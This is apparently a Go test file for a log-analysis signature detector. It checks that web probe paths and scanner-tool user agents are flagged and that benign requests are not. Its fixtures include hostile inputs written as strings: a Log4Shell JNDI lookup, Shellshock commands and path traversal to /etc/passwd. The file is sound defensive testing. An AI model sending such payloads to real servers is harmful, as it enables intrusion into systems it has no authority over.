package logs

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/shivx/shivx"
)

func TestProbePaths(t *testing.T) {
	s, err := NewSignatures(nil, nil)
	require.NoError(t, err)
	for _, path := range []string{
		"/.env", "/api/.env", "/.env.production", "/.ENV", "/%2eenv", "/%252e%2565nv", "//.env", "/./.env", "/.git/config", "/.git",
		"/wp-login.php", "/blog/wp-login.php", "/phpMyAdmin-2.8.2.3/scripts/setup.php", "//pma/scripts/setup.php", "/PMA/", "/cgi-bin/php4",
		"/cgi-bin/.%2e/.%2e/bin/sh", "/static/../../etc/passwd", "/static/..%2f..%2fx", `/..\..\windows\win.ini`, "/a/..;/manager/html",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/actuator/env", "/actuator", "/boaform/admin/formLogin", "/HNAP1/", "/..",
		"/" + strings.Repeat("a/", 200) + ".env", "/setup.php%00",
	} {
		require.True(t, s.ProbePath([]byte(path)), path)
	}
	for _, path := range []string{
		"", "/", "*", "/index.html", "/favicon.ico", "/robots.txt", "/sitemap.xml", "/.well-known/acme-challenge/x", "/.well-known/security.txt",
		"/apple-touch-icon.png", "/environment", "/.environment", "/gitlab/", "/docs/v1..v2/x", "/actuator/health", "/actuator/prometheus",
		"/wp-content/themes/x/style.css", "/wp-admin/admin-ajax.php", "/blog/tags/shell", "/a%2", "/100%", "/%zz", "/config.json", "/server-status",
		"/...", "/a../b", "/administrator/index.php", "/ads.txt", "/manifest.json", "/openapi.json", "/.DS_Store", "/login", "/admin/",
	} {
		require.False(t, s.ProbePath([]byte(path)), path)
	}
}

func TestScannerTools(t *testing.T) {
	s, err := NewSignatures(nil, nil)
	require.NoError(t, err)
	for _, agent := range []string{
		"sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3", "Mozilla/5.0 zgrab/0.x",
		"gobuster/3.6", "DirBuster-1.0-RC1 (http://www.owasp.org)", "WPScan v3.8.22 (https://wpscan.com)", "Fuzz Faster U Fool v2.1.0",
		"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "feroxbuster/2.10", "libredtail-http", "Mozilla/5.0 (Hydra)",
		"${jndi:ldap://192.0.2.7/a}", "() { :; }; /bin/bash -c id", "() { :;}; echo", "Hello, World",
	} {
		require.True(t, s.Tool([]byte(agent)), agent)
	}
	for _, agent := range []string{
		"", "-", "curl/8.5.0", "Wget/1.21", "Go-http-client/2.0", "python-requests/2.31", "python-httpx/0.27", "Googlebot/2.1 (+http://www.google.com/bot.html)",
		"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Prometheus/2.53", "kube-probe/1.30", "UptimeRobot/2.0",
		"check_http/v2.3 (monitoring-plugins)", "Blackbox Exporter/0.25", "Pingdom.com_bot", "ELB-HealthChecker/2.0", "Nikton/1", "xnmap", "Veganuclei",
		"CensysInspect/1.1", "Jetpack by WordPress.com", "okhttp/4.12",
	} {
		require.False(t, s.Tool([]byte(agent)), agent)
	}
}

func TestSignaturesOfTheUser(t *testing.T) {
	s, err := NewSignatures([]string{"/Old-Admin/*", "*.bak", "/only", "/a*b*c"}, []string{"EvilBot", " c++scan "})
	require.NoError(t, err)
	for path, want := range map[string]bool{
		"/old-admin/": true, "/OLD-admin/x": true, "/x/old-admin/": false, "/db.BAK": true, "/db.bak/x": false, "/only": true, "/only/": false,
		"//only": true, "/abc": true, "/axxbxxc": true, "/ac": false, "/a/b/c/d": false, "/%6fnly": true, "/.env": true,
	} {
		require.Equal(t, want, s.ProbePath([]byte(path)), path)
	}
	for agent, want := range map[string]bool{"x evilbot/1": true, "devilbot": false, "evilbots": false, "C++Scan": true, "sqlmap": true} {
		require.Equal(t, want, s.Tool([]byte(agent)), agent)
	}
	for _, bad := range [][2][]string{
		{{""}}, {{"x"}}, {{"/"}}, {{"*"}}, {{"/*"}}, {{"/a?b"}}, {nil, {"ab"}}, {nil, {"Mozilla"}}, {nil, {strings.Repeat("a", 101)}},
	} {
		_, err := NewSignatures(bad[0], bad[1])
		require.Error(t, err, "%q", bad)
		require.NotEmpty(t, shivx.HintOf(err), "%q", bad)
	}
	_, err = NewSignatures(nil, []string{strings.Repeat("\x01", 3)})
	require.NoError(t, err)
}

// TestSignaturesLeaveVisitorsAlone counts what a real log of mostly benign requests has of them.
func TestSignaturesLeaveVisitorsAlone(t *testing.T) {
	s, err := NewSignatures(nil, nil)
	require.NoError(t, err)
	p := parser(t, "apache-access", Options{})
	tools, paths := 0, map[string]map[string]bool{}
	for _, line := range apacheLog(t) {
		e := p.Parse(line, nil)[0]
		if s.Tool(e.Agent) {
			tools++
		}
		if s.ProbePath(e.Path) {
			host := string(e.Host)
			if paths[host] == nil {
				paths[host] = map[string]bool{}
			}
			paths[host][string(e.Path)] = true
			require.Equal(t, 404, e.Status, "%s", line)
		}
	}
	require.Zero(t, tools)
	for host, seen := range paths {
		require.Len(t, seen, 1, "%s", host)
	}
	t.Logf("%d of 1753 sources asked for one probe path each, none with a tool", len(paths))
}
